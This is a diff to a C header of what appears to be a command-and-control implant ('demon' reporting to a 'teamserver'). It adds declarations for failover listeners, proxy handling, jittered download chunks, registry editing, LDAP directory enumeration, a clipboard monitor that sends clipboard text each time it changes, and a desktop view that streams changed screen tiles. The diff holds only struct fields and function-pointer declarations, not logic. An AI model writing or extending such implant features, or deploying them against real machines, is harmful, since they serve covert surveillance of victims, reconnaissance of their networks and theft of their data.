@@ -6,6 +6,7 @@
 #include <ntstatus.h>
 #include <aclapi.h>
 #include <windns.h>
+#include <winldap.h>
 
 #include <common/Native.h>
 #include <common/Macros.h>
@@ -91,6 +92,10 @@ typedef struct
             UINT64     KillDate;
             UINT32     WorkingHours;
 
+            /* backpressure of the teamserver */
+            UINT32     MaxRequest; /* max size of a request. 0 means DEMON_MAX_REQUEST_LENGTH */
+            UINT32     Backoff;    /* milliseconds added to the next sleep */
+
 #ifdef TRANSPORT_HTTP
             PHOST_DATA Host;  /* current using host */
             PHOST_DATA Hosts; /* host linked list */
@@ -104,11 +109,19 @@ typedef struct
             LPWSTR*    Uris;      /* TODO: change type to BUFFER */
             LPWSTR*    Headers;   /* TODO: change type to BUFFER */
 
+            /* listener the demon has been built for followed by the ones to fail over to (in order) */
+            PHTTP_TRANSPORT Transports;
+            DWORD           NumTransports;
+            DWORD           TransportIndex; /* listener in use */
+
             struct {
-                BOOL   Enabled;
+                DWORD  Mode;     /* TRANSPORT_HTTP_PROXY_SYSTEM, TRANSPORT_HTTP_PROXY_EXPLICIT or TRANSPORT_HTTP_PROXY_DIRECT */
+                BOOL   Enabled;  /* TRUE if Mode is TRANSPORT_HTTP_PROXY_EXPLICIT */
                 LPWSTR Url;      /* TODO: Instead of using LPWSTR use BUFFER (to have the size of the string too) */
                 LPWSTR Username; /* TODO: Instead of using LPWSTR use BUFFER (to have the size of the string too) */
                 LPWSTR Password; /* TODO: Instead of using LPWSTR use BUFFER (to have the size of the string too) */
+                DWORD  AuthScheme;
+                LPWSTR Bypass;   /* semicolon separated list passed to WinHttpOpen */
             } Proxy;
 #endif
 
@@ -130,6 +143,7 @@ typedef struct
             BOOL  CoffeeThreaded;
             BOOL  CoffeeVeh;
             ULONG DownloadChunkSize;
+            ULONG DownloadChunkJitter; /* percent the chunk size randomly gets reduced by */
         } Implant;
 
         struct {
@@ -171,6 +185,9 @@ typedef struct
         WIN_FUNC( RtlRandomEx )
         WIN_FUNC( RtlNtStatusToDosError )
         WIN_FUNC( RtlGetVersion )
+        WIN_FUNC( RtlGetCompressionWorkSpaceSize )
+        WIN_FUNC( RtlCompressBuffer )
+        WIN_FUNC( RtlDecompressBuffer )
         WIN_FUNC( RtlExitUserThread )
         WIN_FUNC( RtlExitUserProcess )
         WIN_FUNC( RtlCreateTimer )
@@ -234,6 +251,7 @@ typedef struct
         WIN_FUNC( GetFullPathNameW )
         WIN_FUNC( GetFileSize )
         WIN_FUNC( GetFileSizeEx )
+        WIN_FUNC( SetFilePointerEx )
         WIN_FUNC( CreateNamedPipeW )
         WIN_FUNC( WaitNamedPipeW )
         WIN_FUNC( PeekNamedPipe )
@@ -245,6 +263,7 @@ typedef struct
         WIN_FUNC( CreatePipe )
         WIN_FUNC( ReadFile )
         WIN_FUNC( GetComputerNameExA )
+        WIN_FUNC( GetComputerNameExW )
         WIN_FUNC( LocalAlloc )      /* TODO: replace with RtlAllocateHeap */
         WIN_FUNC( LocalFree )       /* TODO: replace with RtlFreeHeap */
         WIN_FUNC( LocalReAlloc )    /* TODO: replace with RtlReAllocateHeap */
@@ -303,10 +322,12 @@ typedef struct
         WIN_FUNC( SafeArrayPutElement )
         WIN_FUNC( SafeArrayDestroy )
         WIN_FUNC( SysAllocString )
+        WIN_FUNC( SysFreeString )
 
         // Advapi32
         WIN_FUNC( GetTokenInformation )
         WIN_FUNC( GetUserNameA )
+        WIN_FUNC( GetUserNameW )
         WIN_FUNC( CreateProcessWithTokenW )
         WIN_FUNC( CreateProcessWithLogonW )
         NTSTATUS ( WINAPI* SystemFunction032 ) ( struct ustring* data, struct ustring* key );
@@ -324,6 +345,14 @@ typedef struct
         WIN_FUNC( ConvertSidToStringSidW )
         WIN_FUNC( GetSidSubAuthorityCount )
         WIN_FUNC( GetSidSubAuthority)
+        WIN_FUNC( RegOpenKeyExW )
+        WIN_FUNC( RegCreateKeyExW )
+        WIN_FUNC( RegCloseKey )
+        WIN_FUNC( RegQueryValueExW )
+        WIN_FUNC( RegEnumKeyExW )
+        WIN_FUNC( RegEnumValueW )
+        WIN_FUNC( RegSetValueExW )
+        WIN_FUNC( RegDeleteValueW )
 
         WIN_FUNC( ConvertThreadToFiberEx )
         WIN_FUNC( ConvertFiberToThread )
@@ -371,10 +400,21 @@ typedef struct
         WIN_FUNC( CreateDIBSection )
         WIN_FUNC( SelectObject )
         WIN_FUNC( BitBlt )
+        WIN_FUNC( StretchBlt )
+        WIN_FUNC( SetStretchBltMode )
         WIN_FUNC( DeleteObject )
         WIN_FUNC( DeleteDC )
         WIN_FUNC( ReleaseDC )
 
+        // Clipboard
+        WIN_FUNC( OpenClipboard )
+        WIN_FUNC( CloseClipboard )
+        WIN_FUNC( GetClipboardData )
+        WIN_FUNC( GetClipboardSequenceNumber )
+        WIN_FUNC( IsClipboardFormatAvailable )
+        WIN_FUNC( GlobalLock )
+        WIN_FUNC( GlobalUnlock )
+
         // Netapi
         WIN_FUNC( NetWkstaUserEnum )
         WIN_FUNC( NetSessionEnum )
@@ -384,6 +424,33 @@ typedef struct
         WIN_FUNC( NetShareEnum )
         WIN_FUNC( NetApiBufferFree )
 
+        /* Wldap32.dll */
+        WIN_FUNC( ldap_initA )
+        WIN_FUNC( ldap_set_option )
+        WIN_FUNC( ldap_bind_sA )
+        WIN_FUNC( ldap_search_sA )
+        WIN_FUNC( ldap_search_init_pageA )
+        WIN_FUNC( ldap_get_next_page_s )
+        WIN_FUNC( ldap_search_abandon_page )
+        WIN_FUNC( ldap_count_entries )
+        WIN_FUNC( ldap_first_entry )
+        WIN_FUNC( ldap_next_entry )
+        WIN_FUNC( ldap_get_dnA )
+        WIN_FUNC( ldap_first_attributeA )
+        WIN_FUNC( ldap_next_attributeA )
+        WIN_FUNC( ldap_get_values_lenA )
+        WIN_FUNC( ldap_value_free_len )
+        WIN_FUNC( ldap_memfreeA )
+        WIN_FUNC( ber_free )
+        WIN_FUNC( ldap_msgfree )
+        WIN_FUNC( ldap_unbind )
+        WIN_FUNC( LdapGetLastError )
+
+        /* Ole32.dll */
+        WIN_FUNC( CoInitializeEx )
+        WIN_FUNC( CoCreateInstance )
+        WIN_FUNC( CoUninitialize )
+
         /* Ws2_32.dll */
         WIN_FUNC( WSAStartup )
         WIN_FUNC( WSACleanup )
@@ -510,6 +577,8 @@ typedef struct
         PVOID Iphlpapi;
         PVOID Gdi32;
         PVOID NetApi32;
+        PVOID Wldap32;
+        PVOID Ole32;
         PVOID Ws2_32;
         PVOID Sspicli;
 
@@ -537,6 +606,30 @@ typedef struct
      * holds our CLR instance, assembly and where to output. */
     PDOTNET_ARGS Dotnet;
 
+    /* clipboard monitor. sends the text of the clipboard every time it changes */
+    struct {
+        BOOL   Monitor;
+        UINT32 RequestID;
+        DWORD  Sequence;
+    } Clipboard;
+
+    /* desktop view. sends the tiles of the desktop that changed every interval */
+    struct {
+        BOOL   Running;
+        UINT32 RequestID;
+        /* milliseconds between the frames */
+        DWORD  Interval;
+        DWORD  Last;
+        DWORD  Scale;
+        /* bytes of tiles a frame holds at most */
+        DWORD  Budget;
+        UINT32 Frame;
+        INT    Width;
+        INT    Height;
+        /* hashes of the tiles of the last frame */
+        PDWORD Tiles;
+    } Desktop;
+
     /* Linked lists */
     struct {
         PTOKEN_LIST_DATA Vault;